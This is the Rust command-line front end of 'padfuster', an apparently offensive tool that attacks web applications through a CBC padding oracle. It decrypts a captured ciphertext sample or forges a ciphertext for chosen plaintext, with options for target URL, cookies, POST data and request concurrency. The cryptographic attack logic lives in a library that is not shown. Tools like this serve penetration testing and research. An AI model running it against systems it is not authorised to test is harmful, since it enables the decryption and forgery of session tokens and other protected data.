use padfuster::{
    detect_block_size, url_decode, ConsoleLog, Cracker, Decrypter, Encoding, Encrypter, Error,
    HttpOracle, HttpOracleConfig, Logger, Resume, Result, DEFAULT_CONCURRENCY,
};

use clap::{Parser, ValueEnum};

use std::{io::Write, process::ExitCode};

#[derive(Debug, Clone, Copy, ValueEnum)]
enum EncodingArg {
    Auto,
    Base64,
    Hex,
    Raw,
}

/// Decrypt or forge CBC ciphertexts through a padding oracle.
#[derive(Parser, Debug)]
#[command(name = "padfuster", version)]
struct Cli {
    /// Target URL
    url: String,

    /// Encoded ciphertext sample, as it appears in the request
    #[arg(short = 'S', long)]
    sample: String,

    /// POST body
    #[arg(short, long)]
    data: Option<String>,

    /// Cookie to send, as name=value
    #[arg(short, long)]
    cookie: Vec<String>,

    /// Cipher block size in bytes, 0 to detect from the sample
    #[arg(short = 's', long, default_value_t = 0)]
    block_size: usize,

    /// Sample encoding
    #[arg(short = 'E', long, value_enum, default_value = "auto")]
    encoding: EncodingArg,

    /// Forge a ciphertext for this plaintext instead of decrypting
    #[arg(short, long)]
    encrypt: Option<String>,

    /// Ciphertext block to start forging from, in hex
    #[arg(short = 'C', long)]
    ciphertext: Option<String>,

    /// Known intermediate value of --ciphertext, in hex
    #[arg(short = 'I', long)]
    intermediate: Option<String>,

    /// Maximum number of oracle requests in flight
    #[arg(short = 't', long, default_value_t = DEFAULT_CONCURRENCY)]
    concurrency: usize,

    /// Confirm hits on the last byte with a second request
    #[arg(long)]
    verify_last_byte: bool,

    /// Abort on the first failed request instead of counting it as invalid
    #[arg(long)]
    strict: bool,

    /// Increase output verbosity
    #[arg(short, long, action = clap::ArgAction::Count)]
    verbose: u8,
}

fn init_logging(verbosity: u8) -> Logger {
    let console = ConsoleLog::with_verbosity(verbosity);
    let level = console.level();
    if log::set_boxed_logger(Box::new(console)).is_ok() {
        log::set_max_level(level);
    }
    Logger::global()
}

fn decode_hex(name: &str, value: &str) -> Result<Vec<u8>> {
    hex::decode(value)
        .map_err(|e| Error::Configuration(format!("Invalid {} parameter: {}", name, e)))
}

fn resume_from(cli: &Cli) -> Result<Resume> {
    match (&cli.ciphertext, &cli.intermediate) {
        (None, None) => Ok(Resume::Random),
        (None, Some(_)) => Err(Error::Configuration(
            "The intermediate parameter requires a ciphertext parameter".to_string(),
        )),
        (Some(ciphertext), None) => Ok(Resume::Anchor(decode_hex("ciphertext", ciphertext)?)),
        (Some(ciphertext), Some(intermediate)) => Ok(Resume::Known {
            ciphertext: decode_hex("ciphertext", ciphertext)?,
            intermediate: decode_hex("intermediate", intermediate)?,
        }),
    }
}

fn resolve_encoding(arg: EncodingArg, sample: &str, log: &Logger) -> Result<Encoding> {
    match arg {
        EncodingArg::Auto => {
            let encoding = Encoding::detect(sample)?;
            log.warn(format_args!(
                "Detected encoding: {}. Use the -E option to set a different value",
                encoding
            ));
            Ok(encoding)
        }
        EncodingArg::Base64 => Ok(Encoding::Base64),
        EncodingArg::Hex => Ok(Encoding::Hex),
        EncodingArg::Raw => Ok(Encoding::Raw),
    }
}

/// A `requested` size of 0 means detect it from the sample.
fn resolve_block_size(requested: usize, sample_len: usize, log: &Logger) -> Result<usize> {
    if requested == 0 {
        let block_size = detect_block_size(sample_len)?;
        log.warn(format_args!(
            "Detected block size: {}. Use the -s option to set a different value",
            block_size
        ));
        return Ok(block_size);
    }
    if sample_len % requested != 0 {
        return Err(Error::Configuration(
            "Encrypted sample is not a multiple of the block size".to_string(),
        ));
    }
    Ok(requested)
}

/// Runs the attack and returns what should be written to stdout.
async fn run(cli: Cli, log: Logger) -> Result<Vec<u8>> {
    // The sample is matched in the request as given, but decoded unescaped.
    let unescaped = url_decode(&cli.sample);
    let encoding = resolve_encoding(cli.encoding, &unescaped, &log)?;
    let sample = encoding.decode(&unescaped)?;
    let block_size = resolve_block_size(cli.block_size, sample.len(), &log)?;
    let resume = match cli.encrypt {
        Some(_) => resume_from(&cli)?,
        None => Resume::Random,
    };

    let mut config = HttpOracleConfig::new(cli.url.clone(), cli.sample.clone(), encoding);
    config.data = cli.data.clone();
    config.cookies = cli.cookie.clone();
    let oracle = HttpOracle::new(config)?.with_logger(log.clone());

    let cracker = Cracker::new(oracle, block_size)
        .with_concurrency(cli.concurrency)
        .with_logger(log.clone())
        .verify_last_byte(cli.verify_last_byte)
        .strict_transport(cli.strict);

    let output = match &cli.encrypt {
        Some(plaintext) => {
            let encrypter = Encrypter::new(cracker)
                .with_resume(resume)?
                .with_logger(log.clone());
            let forged = encrypter.encrypt(plaintext.as_bytes()).await?;
            let mut line = encoding.encode(&forged).into_bytes();
            line.push(b'\n');
            line
        }
        None => {
            let decrypter = Decrypter::new(cracker).with_logger(log.clone());
            decrypter.decrypt(&sample).await?
        }
    };
    log.info(format_args!("Finished"));
    Ok(output)
}

fn write_output(out: &mut impl Write, bytes: &[u8]) -> std::io::Result<()> {
    out.write_all(bytes)?;
    out.flush()
}

#[tokio::main]
async fn main() -> ExitCode {
    let cli = Cli::parse();
    let log = init_logging(cli.verbose);

    let output = match run(cli, log.clone()).await {
        Ok(output) => output,
        Err(e) => {
            log.error(format_args!("Error: {}", e));
            return ExitCode::FAILURE;
        }
    };

    if let Err(e) = write_output(&mut std::io::stdout(), &output) {
        log.error(format_args!("Error: cannot write output: {}", e));
        return ExitCode::FAILURE;
    }
    ExitCode::SUCCESS
}
